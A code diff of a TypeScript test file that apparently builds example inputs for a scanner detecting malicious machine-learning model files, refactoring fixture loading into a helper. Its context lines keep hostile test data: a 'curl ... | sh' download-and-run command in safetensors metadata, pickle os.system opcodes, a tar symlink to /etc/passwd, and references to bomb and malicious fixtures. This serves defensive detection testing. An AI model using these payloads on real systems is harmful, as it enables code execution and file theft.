@@ -43,6 +43,11 @@ function npy(shape: string, total: number): Uint8Array {
   return bytes;
 }
 
+/** A folder of one committed fixture, named `name`. */
+const fixtureCase = (name: string, path: string) => async (): Promise<ExampleCase> => ({
+  files: { [name]: await fixture(path) },
+});
+
 /** A safetensors file: the header's length, the header, then `data`. */
 function safetensors(header: string, data: Uint8Array = new Uint8Array(0)): Uint8Array {
   const json = new TextEncoder().encode(header);
@@ -131,7 +136,7 @@ const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> =
   }),
   MA008: () => ({ files: { "model.pkl": latin1("cos\nsystem\n".repeat(10_000) + ".") } }),
   // The tar header's name field starts with PROTO 2, BINBYTES: pickle readers skip the header as bytes.
-  MA009: async () => ({ files: { "model.tar": await fixture("polyglot/malicious/tar_binbytes.tar") } }),
+  MA009: fixtureCase("model.tar", "polyglot/malicious/tar_binbytes.tar"),
   MA011: () => ({
     files: { "model.safetensors": withMetadata({ setup: "curl -s http://203.0.113.7/x.sh | sh" }) },
   }),
@@ -146,7 +151,7 @@ const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> =
       today: "2026-07-01",
     },
   }),
-  MA010: async () => ({ files: { "model.onnx": await fixture("onnx/external/traversal/model.onnx") } }),
+  MA010: fixtureCase("model.onnx", "onnx/external/traversal/model.onnx"),
   MA100: () => ({ files: { "model.pkl": latin1("cos\nsystem\n.") } }),
   MA101: () => ({ files: { "model.pkl": OS_SYSTEM } }),
   MA102: () => ({ files: { "model.pkl": latin1("cmylib.helpers\nmake_model\n.") } }),
@@ -200,11 +205,11 @@ const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> =
   MA205: () => ({
     files: { "model.tar": concat(entry("config.json", "", { type: "2", linkname: "/etc/passwd" }), END) },
   }),
-  MA206: async () => ({ files: { "model.zip": await fixture("zip/malicious/deflate_bomb.zip") } }),
+  MA206: fixtureCase("model.zip", "zip/malicious/deflate_bomb.zip"),
   MA207: async () => ({
     files: { "model.pkl": concat(OS_SYSTEM, await buildZip([{ name: "data.pkl", data: latin1("N.") }])) },
   }),
-  MA208: async () => ({ files: { "model.zip": await fixture("zip/malicious/encrypted_member.zip") } }),
+  MA208: fixtureCase("model.zip", "zip/malicious/encrypted_member.zip"),
   MA209: async () => {
     const whole = await gzip(concat(OS_SYSTEM.subarray(0, -1), latin1(`S'${"x".repeat(4096)}'\n0.`)));
     return { files: { "model.pkl.gz": whole.subarray(0, whole.length >> 1) } };
@@ -226,14 +231,14 @@ const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> =
   MA212: async () => ({
     files: { "model.zip": await buildZip([{ name: "data.pkl", data: ZIP_PICKLE, method: 98 }]) },
   }),
-  MA213: async () => ({ files: { "model.7z": await fixture("sevenzip/suspicious/encrypted_header.7z") } }),
+  MA213: fixtureCase("model.7z", "sevenzip/suspicious/encrypted_header.7z"),
   // torch.save's own members (stored, read from the committed checkpoint) and a script beside data.pkl.
   MA300: async () => ({
     files: { "model.pt": await withMember("pytorch/benign/state_dict.pt", "archive/payload.sh") },
   }),
-  MA301: async () => ({ files: { "model.pt": await fixture("pytorch/malicious/bad_torch2_metadata.pt") } }),
-  MA302: async () => ({ files: { "model.pt": await fixture("pytorch/malicious/torchscript_os_system.pt") } }),
-  MA303: async () => ({ files: { "model.pt": await fixture("pytorch/malicious/upper_case_data_pkl.pt") } }),
+  MA301: fixtureCase("model.pt", "pytorch/malicious/bad_torch2_metadata.pt"),
+  MA302: fixtureCase("model.pt", "pytorch/malicious/torchscript_os_system.pt"),
+  MA303: fixtureCase("model.pt", "pytorch/malicious/upper_case_data_pkl.pt"),
   MA310: () => ({ files: { "weights.npy": npy("(1000000,)", 200) } }),
   MA320: () => {
     // A real header follows, but its length field says 2^64 - 8: 8 + length wraps to 0 in 64 bits.
@@ -267,34 +272,32 @@ const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> =
     files: { "model.safetensors": safetensors(`{${tensor("w", "F32", new Array(20e6).fill(0), [0, 0])}}`) },
   }),
   // GGUF files written by gguf-py's GGUFWriter (or its spec writer), then edited as the example says.
-  MA340: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/huge_string_length.gguf") } }),
-  MA341: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/bad_value_type.gguf") } }),
-  MA342: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/ggml_type_negative.gguf") } }),
-  MA343: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/offset_outside_file.gguf") } }),
-  MA344: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/overlapping_tensors.gguf") } }),
-  MA345: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/misaligned_offset.gguf") } }),
-  MA346: async () => ({ files: { "ggml-model-q4_0.bin": await fixture("gguf/benign/llama_ggjt_v3.bin") } }),
-  MA347: async () => ({
-    files: { "ggml-model-q4_0.bin": await fixture("gguf/malicious/ggjt_bad_version.bin") },
-  }),
+  MA340: fixtureCase("model.gguf", "gguf/malicious/huge_string_length.gguf"),
+  MA341: fixtureCase("model.gguf", "gguf/malicious/bad_value_type.gguf"),
+  MA342: fixtureCase("model.gguf", "gguf/malicious/ggml_type_negative.gguf"),
+  MA343: fixtureCase("model.gguf", "gguf/malicious/offset_outside_file.gguf"),
+  MA344: fixtureCase("model.gguf", "gguf/malicious/overlapping_tensors.gguf"),
+  MA345: fixtureCase("model.gguf", "gguf/malicious/misaligned_offset.gguf"),
+  MA346: fixtureCase("ggml-model-q4_0.bin", "gguf/benign/llama_ggjt_v3.bin"),
+  MA347: fixtureCase("ggml-model-q4_0.bin", "gguf/malicious/ggjt_bad_version.bin"),
   MA348: () => ({
     files: {
       "model.gguf": ggufOfStrings([["tokenizer.chat_template", "{{ messages }}" + " ".repeat(20e6)]]),
     },
   }),
-  MA349: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/trailing_pickle.gguf") } }),
+  MA349: fixtureCase("model.gguf", "gguf/malicious/trailing_pickle.gguf"),
   // ONNX models made by onnx.helper (external data by onnx's own external-data writer), then edited as said.
-  MA460: async () => ({ files: { "model.onnx": await fixture("onnx/malicious/pyop.onnx") } }),
-  MA461: async () => ({ files: { "model.onnx": await fixture("onnx/malicious/custom_domain.onnx") } }),
-  MA462: async () => ({ files: { "model.onnx": await fixture("onnx/malicious/unlisted_contrib.onnx") } }),
-  MA463: async () => ({ files: { "model.onnx": await fixture("onnx/external/file_url/model.onnx") } }),
+  MA460: fixtureCase("model.onnx", "onnx/malicious/pyop.onnx"),
+  MA461: fixtureCase("model.onnx", "onnx/malicious/custom_domain.onnx"),
+  MA462: fixtureCase("model.onnx", "onnx/malicious/unlisted_contrib.onnx"),
+  MA463: fixtureCase("model.onnx", "onnx/external/file_url/model.onnx"),
   MA464: async () => ({
     files: {
       "model.onnx": await fixture("onnx/external/short/model.onnx"),
       "short.bin": await fixture("onnx/external/short/short.bin"),
     },
   }),
-  MA465: async () => ({ files: { "model.onnx": await fixture("onnx/malicious/truncated.onnx") } }),
+  MA465: fixtureCase("model.onnx", "onnx/malicious/truncated.onnx"),
   MA466: () => ({ files: { "model.onnx": nestedIfs(100) } }),
   MA467: async () => ({
     files: {
